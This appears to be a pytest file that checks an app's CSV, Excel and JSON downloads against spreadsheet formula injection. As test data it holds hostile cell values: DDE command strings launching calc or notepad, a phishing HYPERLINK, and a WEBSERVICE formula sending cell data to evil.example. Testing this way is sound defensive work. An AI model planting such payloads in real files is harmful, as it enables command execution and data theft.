"""Downloads are safe to open (issue 10, point 2): hostile text from a payload never
becomes a spreadsheet formula in a CSV or Excel download, numbers stay numbers, and the
payload download is valid JSON.

The hostile product is the real demo backpack (lib/sandbox/fixtures) with formula text
in every field a download carries: title, store name, attribute names and values, SKU
property names and values, a SKU id and a variant key. It goes through the real parser.
"""
from __future__ import annotations

import csv
import io
import json
import math
import os
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from lib import export
from lib.platforms import parse_payload

ROOT = Path(__file__).resolve().parents[1]
FIXTURE = ROOT / "lib" / "sandbox" / "fixtures" / "aliexpress" / "1005006789012345.json"

TITLE = '=HYPERLINK("https://evil.example/login","Your session expired: sign in")'
STORE = "=cmd|' /C calc'!A0"
ATTR_NAME, ATTR_VALUE = "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0"
PROP_NAME, PROP_VALUE = "-2+3+cmd|' /C calc'!A0", "=WEBSERVICE(\"https://evil.example/?\"&A1)"
SKU_ID = "=1+1"
# A separator inside the text: a spreadsheet splitting on ";" must not see a new cell.
VARIANT_KEY = "14:193;=cmd|' /C calc'!A0"
SPACED = "  =HYPERLINK(\"https://evil.example\")"       # leading spaces, then a formula
HOSTILE = [TITLE, STORE, ATTR_NAME, ATTR_VALUE, PROP_NAME, PROP_VALUE, SKU_ID, SPACED]


def _hostile_payload() -> dict:
    data = json.loads(FIXTURE.read_text(encoding="utf-8"))
    result = data["aliexpress_ds_product_get_response"]["result"]
    result["ae_item_base_info_dto"]["subject"] = TITLE
    result["ae_store_info"]["store_name"] = STORE
    attribute = result["ae_item_properties"]["ae_item_property"][0]
    attribute["attr_name"], attribute["attr_value"] = ATTR_NAME, ATTR_VALUE
    result["ae_item_properties"]["ae_item_property"][1]["attr_value"] = SPACED
    skus = result["ae_item_sku_info_dtos"]["ae_item_sku_info_d_t_o"]
    for sku in skus:
        for prop in sku["ae_sku_property_dtos"]["ae_sku_property_d_t_o"]:
            if prop["sku_property_name"] == "Color":
                prop["sku_property_name"] = PROP_NAME
                if prop["sku_property_value"] == "Black":
                    prop["sku_property_value"] = PROP_VALUE
    skus[0]["sku_id"], skus[0]["sku_attr"] = SKU_ID, VARIANT_KEY
    return data


@pytest.fixture(scope="module")
def hostile():
    product = parse_payload("aliexpress", _hostile_payload())
    # the parser kept the hostile text (else this file tests nothing)
    assert product.title == TITLE and product.store.name == STORE
    assert PROP_NAME in product.skus.columns and SKU_ID in set(product.skus["sku_id"])
    return product


def _cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


# --- the rule ------------------------------------------------------------------------------
@pytest.mark.parametrize("text", [
    "=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", " =1+1", "\u00a0=1", '"=1+1',
    "\n=1", "\uff1d1+1", "-3.5", "-", "+49 30 1234"])
def test_text_that_starts_like_a_formula_is_marked(text):
    assert export.starts_like_formula(text)
    assert export.neutral_text(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "3.5", "1,234", "a=b", "x+1", "e-mail", "", "€-5",
                                  "14:193;5:100014064", "'=1+1"])
def test_ordinary_text_is_left_alone(text):
    assert not export.starts_like_formula(text)
    assert export.neutral_text(text) == text


# --- Excel -----------------------------------------------------------------------------------
def test_workbook_of_a_hostile_product_holds_no_formula(hostile):
    cells = _cells(export.workbook_bytes(hostile))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for value in HOSTILE:                         # every hostile text is there, exactly
        assert any(value.strip() in t for t in texts), value
    marked = [c for c in cells if isinstance(c.value, str) and export.starts_like_formula(c.value)]
    assert len(marked) > 20                       # headers, SKU rows, summary, store ...
    assert all(c.quotePrefix and c.number_format == "@" and c.data_type == "s" for c in marked)
    book = openpyxl.load_workbook(io.BytesIO(export.workbook_bytes(hostile)))
    summary = {r[0]: r[1] for r in book["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["Title"] == TITLE and summary["Store name"] == STORE
    header = [c.value for c in book["SKUs"][1]]
    assert PROP_NAME in header                    # a property name from the payload
    assert book["SKUs"].cell(1, header.index(PROP_NAME) + 1).quotePrefix


def test_workbook_numbers_stay_numbers(hostile):
    book = openpyxl.load_workbook(io.BytesIO(export.workbook_bytes(hostile)))
    rows = list(book["SKUs"].iter_rows(values_only=True))
    header, first = rows[0], dict(zip(rows[0], rows[1]))
    raw = json.loads(FIXTURE.read_text())["aliexpress_ds_product_get_response"]["result"]
    sku = raw["ae_item_sku_info_dtos"]["ae_item_sku_info_d_t_o"][0]
    assert first["SKU id"] == SKU_ID
    assert first["Sale price (USD)"] == pytest.approx(float(sku["offer_sale_price"]))
    assert first["Stock"] == sku["sku_available_stock"]
    assert type(first["Stock"]) is int and "Stock" in header


def test_excel_keeps_negative_numbers_and_marks_text():
    frame = pd.DataFrame({"Change": [-3.5, 2.0], "Note": ["-3.5", "=1+1"]})
    sheet = openpyxl.load_workbook(io.BytesIO(export.excel_bytes({"t": frame})))["t"]
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [(-3.5, "n"), (2.0, "n")]
    assert [(c.value, c.data_type, c.quotePrefix) for c in sheet["B"][1:]] == [
        ("-3.5", "s", True), ("=1+1", "s", True)]


def test_hostile_sheet_names_and_control_characters_still_make_a_workbook():
    frame = pd.DataFrame({"=1+1\x01": ["a\x00b\x1fc", "x" * 40_000], "n": [math.inf, 1.0]})
    book = openpyxl.load_workbook(io.BytesIO(export.excel_bytes(
        {"'=cmd|' /C calc'!A0'": frame, "a[b]:c*?/\\": frame})))
    assert book.sheetnames == ["=cmd|' _C calc'!A0", "a_b__c____"]
    sheet = book.worksheets[0]
    assert sheet["A1"].value == "=1+1\ufffd" and sheet["A1"].quotePrefix
    assert sheet["A2"].value == "a\ufffdb\ufffdc"
    assert len(sheet["A3"].value) == export.EXCEL_CELL_LIMIT
    assert sheet["B2"].value == "inf" and sheet["B3"].value == 1


# --- CSV -------------------------------------------------------------------------------------
def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_of_a_hostile_product_marks_every_formula_cell(hostile):
    tables = {"skus": export.readable(hostile.skus, "USD"),
              "attributes": export.readable(hostile.attributes),
              "store": export.readable(export.store_table(hostile)),
              "summary": export.summary_table(hostile)}
    seen = set()
    for name, frame in tables.items():
        rows = _csv_rows(export.csv_bytes(frame))
        for row in rows:
            for cell in row:
                # nothing a spreadsheet runs: what starts like a formula has the apostrophe
                # (an id's leading tab is ours: digits only)
                if export.starts_like_formula(cell):
                    assert re.fullmatch(r"\t[\d:./ -]+", cell), cell
                # (the parser trims the spaces around a value: SPACED arrives trimmed)
                seen.update(h for h in HOSTILE if cell in ("'" + h, "'" + h.strip()))
    assert seen == set(HOSTILE)
    header = _csv_rows(export.csv_bytes(tables["skus"]))[0]
    assert "'" + PROP_NAME in header and PROP_NAME not in header


def test_csv_marks_a_formula_after_a_separator_inside_a_text(hostile):
    """A spreadsheet reading the file with ";" (or tabs) cuts "14:193;=cmd|..." into two
    cells, quotes or not: the second starts with an apostrophe."""
    data = export.csv_bytes(export.readable(hostile.skus, "USD"))
    assert "14:193;'=cmd|' /C calc'!A0".encode() in data
    frame = pd.DataFrame({"t": ["a;=1+1", "a\t@SUM(1)", "a\n+1", "a; -2+3", "a;b", "a-b"]})
    assert [r[0] for r in _csv_rows(export.csv_bytes(frame))[1:]] == [
        "a;'=1+1", "a\t'@SUM(1)", "a\n'+1", "a;' -2+3", "a;b", "a-b"]
    # numbers stay bare: a spreadsheet and pandas read them as numbers
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["Sale price (USD)"].dtype == float and back["Stock"].dtype == int
    assert back["Sale price (USD)"].tolist() == pytest.approx(
        hostile.skus["sale_price"].astype(float).tolist())


def test_csv_negative_numbers_stay_numbers_text_is_marked():
    frame = pd.DataFrame({"Change": [-3.5, 2.0], "Note": ["-3.5", "ok"]})
    assert _csv_rows(export.csv_bytes(frame)) == [["Change", "Note"], ["-3.5", "'-3.5"],
                                                  ["2.0", "ok"]]
    assert b"\n-3.5," in export.csv_bytes(frame)                 # bare: a number


# --- every download goes through the mechanism ----------------------------------------------
# report_html / report_pdf (lib/ui.py): lib.report's documents, escaped by its builder.
WRITERS = ("csv_bytes", "excel_bytes", "workbook_bytes", "payload_json_bytes",
           "download_table", "download_csv", "report_html", "report_pdf")


def test_every_download_button_gets_its_bytes_from_lib_export():
    """A download_button whose data is built in place (json.dumps, to_csv) would skip the
    rule; each call must name one of lib.export's writers or lib.ui's table helpers."""
    offenders = []
    for path in sorted([*ROOT.glob("views/*.py"), ROOT / "app.py", *ROOT.glob("lib/*.py")]):
        text = path.read_text(encoding="utf-8")
        for match in re.finditer(r"st\.download_button\(", text):
            call = text[match.start():match.start() + 400]
            if not any(name in call for name in WRITERS):
                line = text.count("\n", 0, match.start()) + 1
                offenders.append(f"{path.relative_to(ROOT)}:{line}")
    assert offenders == [], ("build the download with lib.export (the payload: "
                             "payload_json_bytes(product.raw))")
    assert "to_csv(" not in "".join(p.read_text() for p in ROOT.glob("views/*.py"))


# --- the payload (JSON) download --------------------------------------------------------------
def _strict(data: bytes):
    def refuse(name):
        raise ValueError(f"not JSON: {name}")
    return json.loads(data.decode("utf-8"), parse_constant=refuse)


def test_payload_download_is_valid_json_without_nan_or_infinity():
    text = FIXTURE.read_text(encoding="utf-8")
    text = text.replace('"sku_available_stock": 583', '"sku_available_stock": NaN', 1)
    text = text.replace('"package_width": 30', '"package_width": Infinity', 1)
    text = text.replace('"delivery_time": 12', '"delivery_time": -Infinity', 1)
    assert text.count("NaN") == 1 and text.count("Infinity") == 2
    product = parse_payload("aliexpress", text)            # json.loads accepts them
    data = export.payload_json_bytes(product.raw)
    back = _strict(data)                                   # a strict reader accepts the file
    result = back["aliexpress_ds_product_get_response"]["result"]
    assert result["ae_item_sku_info_dtos"]["ae_item_sku_info_d_t_o"][0][
        "sku_available_stock"] is None
    assert result["package_info_dto"]["package_width"] is None
    assert result["logistics_info_dto"]["delivery_time"] is None
    # everything else is the payload as received
    original = json.loads(FIXTURE.read_text(encoding="utf-8"))
    assert result["ae_item_base_info_dto"] == original[
        "aliexpress_ds_product_get_response"]["result"]["ae_item_base_info_dto"]
    with pytest.raises(ValueError):                        # what the page sent before
        _strict(json.dumps(product.raw).encode())


def test_payload_download_of_text_and_nested_values():
    assert _strict(export.payload_json_bytes('{"a": NaN, "b": [1.5, Infinity]}')) == {
        "a": None, "b": [1.5, None]}
    assert _strict(export.payload_json_bytes("<html>not json</html>")) == "<html>not json</html>"
    assert _strict(export.payload_json_bytes(None)) is None
    assert "中文".encode() in export.payload_json_bytes({"t": "中文"})   # readable UTF-8


# --- a real spreadsheet: LibreOffice Calc computes nothing from a hostile cell ---------------
def _libreoffice() -> str | None:
    return shutil.which("libreoffice") or shutil.which("soffice")


needs_libreoffice = pytest.mark.skipif(
    _libreoffice() is None and not os.environ.get("CI"),
    reason="LibreOffice not installed: apt-get install libreoffice-calc-nogui")


def _calc(source: Path, infilter: str | None = None) -> openpyxl.Workbook:
    """The file opened by LibreOffice Calc and saved as xlsx (formulas kept as formulas)."""
    out = source.parent / "out"
    command = [_libreoffice(), f"-env:UserInstallation=file://{source.parent / 'profile'}",
               "--headless", "--convert-to", "xlsx", "--outdir", str(out), str(source)]
    if infilter:
        command.insert(3, f"--infilter={infilter}")
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return openpyxl.load_workbook(out / f"{source.stem}.xlsx")


def _formulas(book: openpyxl.Workbook) -> list[str]:
    return [f"{s.title}!{c.coordinate}={c.value}" for s in book for row in s.iter_rows()
            for c in row if c.data_type == "f"]


@needs_libreoffice
@pytest.mark.parametrize("separator", [",", ";"])
def test_libreoffice_computes_no_formula_from_a_hostile_csv(hostile, tmp_path, separator):
    frame = export.readable(hostile.skus, "USD")[["SKU id", "Variant key", PROP_NAME,
                                                  "Sale price (USD)", "Stock"]]
    infilter = f"CSV:{ord(separator)},34,76,1"
    # the check can fail: the same table written plainly does give LibreOffice formulas
    (tmp_path / "plain").mkdir()
    plain = tmp_path / "plain" / "table.csv"
    plain.write_bytes(frame.to_csv(index=False).encode("utf-8-sig"))
    assert _formulas(_calc(plain, infilter))
    source = tmp_path / "table.csv"
    source.write_bytes(export.csv_bytes(frame))
    book = _calc(source, infilter)
    assert _formulas(book) == []
    rows = list(book.active.iter_rows(values_only=True))
    if separator == ";":
        return                        # the comma file, cut at ";": no formula is enough
    assert rows[0][2] == "'" + PROP_NAME
    assert rows[1][:3] == ("'" + SKU_ID, "14:193;'=cmd|' /C calc'!A0", "'" + PROP_VALUE)
    assert rows[1][3] == pytest.approx(float(hostile.skus["sale_price"].iloc[0]))
    assert rows[1][4] == int(hostile.skus["stock"].iloc[0])


@needs_libreoffice
def test_libreoffice_computes_no_formula_from_the_hostile_workbook(hostile, tmp_path):
    source = tmp_path / "product.xlsx"
    source.write_bytes(export.workbook_bytes(hostile))
    book = _calc(source)
    assert _formulas(book) == []
    summary = {r[0]: r[1] for r in book["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["Title"] == TITLE and summary["Store name"] == STORE
    first = dict(zip(*list(book["SKUs"].iter_rows(max_row=2, values_only=True))))
    assert first["SKU id"] == SKU_ID and first[PROP_NAME] == PROP_VALUE
    assert isinstance(first["Sale price (USD)"], float)
